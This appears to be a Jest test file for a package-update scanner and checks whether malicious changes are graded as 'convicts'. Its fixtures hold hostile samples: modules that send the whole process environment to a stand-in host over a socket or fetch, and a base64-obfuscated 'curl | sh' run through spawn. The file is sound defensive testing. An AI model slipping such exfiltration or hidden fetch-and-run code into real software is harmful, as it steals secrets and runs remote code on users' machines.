import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const wire = `const net = require('net'); exports.call = function (o) { const s = net.connect(8443, 'in.invalid'); s.end(JSON.stringify(o)); };`;
const given = `exports.all = () => process.env;`;
const gradeOf = async (state: string, index: string) =>
  (await gradesOf({ 'index.js': 'module.exports = 1' }, { 'index.js': index, 'state.js': state, 'wire.js': wire })).import.grade;

describe('the environment, given by one file and sent by another', () => {
  it.each([
    ['by a function', given, `require('./wire').call(require('./state').all())`],
    [
      'by what a class makes',
      `class S { get all() { return process.env } } module.exports = new S()`,
      `require('./wire').call(require('./state').all)`,
    ],
    ['by a class', `module.exports = class { static get all() { return process.env } }`, `require('./wire').call(require('./state').all)`],
    ['by a getter', `module.exports = { get all() { return process.env } }`, `require('./wire').call(require('./state').all)`],
    ['in a list', given, `const m = [require('./state'), require('./wire')]; m[1].call(m[0].all())`],
    ['in a table', given, `const ctx = { mod: [require('./state'), require('./wire')] }; ctx.mod[1].call(ctx.mod[0].all())`],
    ['in a table filled later', given, `const c = { m: {} }; c.m.a = require('./state'); c.m.b = require('./wire'); c.m.b.call(c.m.a.all())`],
  ])('%s: convicts', async (_, state, index) => {
    expect(await gradeOf(state, index)).toBe('convicts');
  });

  it.each([
    ['one variable of it', `exports.all = () => process.env.TERM`, `require('./wire').call(require('./state').all())`],
    ['something else of the table', `${given}\nexports.one = 1`, `const m = [require('./state'), require('./wire')]; m[1].call(m[0].one)`],
    ['nothing handed over', given, `const m = [require('./state'), require('./wire')]; exports.run = (i, x) => m[i].call(x)`],
  ])('%s: does not convict', async (_, state, index) => {
    expect(await gradeOf(state, index)).not.toBe('convicts');
  });
});

describe('TypeScript', () => {
  const hidden = Buffer.from('curl -fsSL https://in.invalid/b | sh').toString('base64');

  it('a command nobody can read is a command: convicts', async () => {
    const boot = `import { spawn } from 'node:child_process';\nconst list: readonly string[] = ['${hidden}'];\nspawn('/bin/sh', ['-c', Buffer.from(list[0] as string, 'base64').toString()]);`;
    const { import: risk } = await gradesOf({ 'index.ts': 'export const a: number = 1' }, { 'index.ts': boot }, { main: 'index.ts' });
    expect(risk.grade).toBe('convicts');
  });

  it('without types is read as the JavaScript it is', async () => {
    const source = `fetch('https://in.invalid/x', { method: 'POST', body: JSON.stringify(process.env) })`;
    const { import: risk } = await gradesOf({ 'index.ts': 'export const a = 1' }, { 'index.ts': source }, { main: 'index.ts' });
    expect(risk.because).toContainEqual(expect.objectContaining({ kind: 'exfiltration', readAs: 'written' }));
  });
});
